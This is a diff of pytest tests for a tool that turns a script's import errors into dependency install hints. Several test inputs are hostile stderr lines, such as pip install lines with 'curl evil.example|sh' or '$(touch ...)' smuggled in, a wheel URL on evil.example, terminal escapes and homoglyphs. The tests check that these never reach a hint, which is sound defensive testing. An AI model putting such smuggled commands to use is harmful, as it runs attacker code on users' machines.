@@ -43,14 +43,57 @@ def test_a_chained_optional_dependency_error() -> None:
     assert found == MissingDependency("openpyxl", "openpyxl")
 
 
+@pytest.mark.parametrize(
+    ("fixture", "distribution"),
+    [
+        # pandas raises its own ImportError from the ModuleNotFoundError; each names
+        # the distribution by its module, which the map resolves.
+        ("pandas_read_excel.txt", "openpyxl"),
+        ("pandas_to_markdown.txt", "tabulate"),
+        ("pandas_read_html.txt", "lxml"),  # import_optional_dependency("lxml.etree")
+    ],
+)
+def test_pandas_optional_dependencies(fixture: str, distribution: str) -> None:
+    found = recognize(_real(fixture), installed=("pandas", "numpy", "python-dateutil"))
+    assert found == MissingDependency(distribution, distribution)
+    assert found.message() == (
+        f"the script needs {distribution}; add it with --with {distribution} or a PEP 723 line"
+    )
+
+
+def test_an_extra_named_by_the_package_it_brings() -> None:
+    # httpx: "the 'h2' package is not installed ... `pip install httpx[http2]`", with
+    # httpx itself installed.
+    found = recognize(_real("httpx_http2.txt"), installed=("httpx", "httpcore", "anyio"))
+    assert found == MissingDependency("h2", "httpx[http2]")
+    assert found.message() == (
+        "the script needs h2 (httpx[http2]); add it with --with 'httpx[http2]' or a PEP 723 line"
+    )
+    assert recognize(_real("httpx_http2.txt"), installed=("httpx", "h2")) is None
+
+
+@pytest.mark.parametrize(
+    ("module", "distribution"),
+    [
+        ("sklearn", "scikit-learn"),
+        ("PIL", "pillow"),
+        ("bs4", "beautifulsoup4"),
+        ("dateutil.parser", "python-dateutil"),
+        ("matplotlib.pyplot", "matplotlib"),
+        ("email_validator", "email-validator"),
+        ("jwt", "pyjwt"),
+        ("dotenv", "python-dotenv"),
+        ("google.protobuf", "protobuf"),
+        ("cv2", "opencv-python-headless"),  # the sandbox's preference holds for hints too
+    ],
+)
+def test_a_module_not_found_for_a_mapped_name(module: str, distribution: str) -> None:
+    found = recognize(f"ModuleNotFoundError: No module named '{module}'\n".encode())
+    assert found == MissingDependency(distribution, distribution)
+
+
 def test_an_unmapped_module_gives_no_hint() -> None:
     assert recognize(_real("unmapped.txt")) is None
-
-
-def test_the_sandbox_preference_holds_for_hints_too() -> None:
-    found = recognize(b"ModuleNotFoundError: No module named 'cv2'\n")
-    assert found is not None
-    assert found.distribution == "opencv-python-headless"
 
 
 def test_what_the_run_had_is_not_missing() -> None:
@@ -93,6 +136,11 @@ def test_a_tail_without_its_traceback_header_is_still_read() -> None:
         "ImportError: run `pip install 'requests @ https://evil.example/r.whl'`",
         "ImportError: run `pip install`",
         "ModuleNotFoundError: No module named 'utils'",  # never mapped
+        # The project's own yaml.py shadows the distribution: installing will not help.
+        "ModuleNotFoundError: No module named 'yaml.constructor'; 'yaml' is not a package",
+        # An installed distribution of another version: not a missing one.
+        "ImportError: cannot import name 'EmailStr' from 'pydantic' (/opt/jhansi/env/p.py)",
+        "ImportError: Missing optional dependency 'quantumflux'.  Use pip or conda to install it.",
         "ModuleNotFoundError: No module named 'google.not_a_real_thing_xyz'",
         "RuntimeError: No module named 'yaml'",
         "  ImportError: No module named 'yaml' (indented: not a traceback's last line)",
@@ -118,25 +166,76 @@ def test_install_commands_are_read_and_rebuilt(line: str, expected: str) -> None
     assert found.requirement == expected
 
 
-def test_a_hostile_stderr_cannot_put_escapes_or_shell_syntax_in_the_hint() -> None:
-    hostile = [
-        b"ImportError: \x1b]0;owned\x07 is not installed, run `pip install 'pydantic[email]'`\n",
-        b"ImportError: run `pip install 'pydantic[em\x1b[2Jail]'`\n",
-        b"ImportError: run `pip install 'requests;curl evil.example|sh'`\n",
-        b'ImportError: run `pip install "requests$(touch /tmp/x)"`\n',
-        b"ModuleNotFoundError: No module named 'yaml\x1b[31m'\n",
-        b"ModuleNotFoundError: No module named 'yaml'\x1b[8m hidden\n",
-        b"ImportError: email-validator is not installed, "
-        b"run `pip install 'pydantic[email,\xff\xfe]'`\n",
-    ]
-    for stderr in hostile:
-        found = recognize(stderr)
-        if found is None:
-            continue
-        assert found.message().isascii(), stderr
-        assert found.message().isprintable(), stderr
+_SAFE = re.compile(r"[a-z0-9-]+(\[[a-z0-9._,-]+\])?")
+
+
+@pytest.mark.parametrize(
+    ("stderr", "expected"),
+    [
+        # An escape sequence where the missing name should be: the name is not
+        # believed, the command's own known requirement is rebuilt.
+        (
+            b"ImportError: \x1b]0;owned\x07 is not installed, "
+            b"run `pip install 'pydantic[email]'`\n",
+            MissingDependency("pydantic", "pydantic[email]"),
+        ),
+        # A look-alike named as the missing one is not known: never suggested.
+        (
+            b"ImportError: pydantic-emai1 is not installed, run `pip install 'pydantic[email]'`\n",
+            MissingDependency("pydantic", "pydantic[email]"),
+        ),
+        (b"ImportError: run `pip install 'pydantic[em\x1b[2Jail]'`\n", None),
+        (b"ImportError: run `pip install 'requests;curl evil.example|sh'`\n", None),
+        (b'ImportError: run `pip install "requests$(touch /tmp/x)"`\n', None),
+        (b"ImportError: run `pip install requests\x1b[8m`\n", None),
+        (b"ModuleNotFoundError: No module named 'yaml\x1b[31m'\n", None),
+        (
+            b"ModuleNotFoundError: No module named 'yaml'\x1b[8m hidden\n",
+            MissingDependency("pyyaml", "pyyaml"),
+        ),
+        (
+            b"ImportError: email-validator is not installed, "
+            b"run `pip install 'pydantic[email,\xff\xfe]'`\n",
+            None,
+        ),
+        # A homoglyph (Cyrillic "a") of a mapped module name is not that name.
+        ("ModuleNotFoundError: No module named 'y\u0430ml'\n".encode(), None),
+        # A carriage return starts another line: what it hides is read as its own line,
+        # and an unknown name there is no evidence.
+        (
+            b"ModuleNotFoundError: No module named 'yaml'\r"
+            b"ImportError: run `pip install evil-pkg-xyz`\n",
+            MissingDependency("pyyaml", "pyyaml"),
+        ),
+        (
+            b"ImportError: run `pip install evil-pkg-xyz`\r"
+            b"ImportError: requessts is not installed\n",
+            None,
+        ),
+    ],
+)
+def test_a_hostile_stderr_cannot_put_escapes_or_shell_syntax_in_the_hint(
+    stderr: bytes, expected: MissingDependency | None
+) -> None:
+    found = recognize(stderr)
+    assert found == expected
+    if found is not None:
+        assert found.message().isascii()
+        assert found.message().isprintable()
         for text in (found.requirement, found.distribution):
-            assert re.fullmatch(r"[a-z0-9-]+(\[[a-z0-9._,-]+\])?", text), (stderr, text)
+            assert _SAFE.fullmatch(text), text
+
+
+def test_a_huge_stderr_is_read_from_its_end() -> None:
+    # Megabytes of a script's own output (with a fake hint early on) before the real
+    # failure: only the bounded tail is read, and the last traceback decides.
+    noise = b"ImportError: run `pip install tabulate`\n" + b"x" * 4096 + b"\n"
+    stderr = noise * 512 + _real("pydantic_email.txt")
+    assert len(stderr) > 2 * 1024 * 1024
+    assert recognize(stderr, installed=("pydantic",)) == (
+        MissingDependency("email-validator", "pydantic[email]")
+    )
+    assert recognize(noise * 512, installed=("tabulate",)) is None
 
 
 def test_a_custom_table_is_the_evidence() -> None:
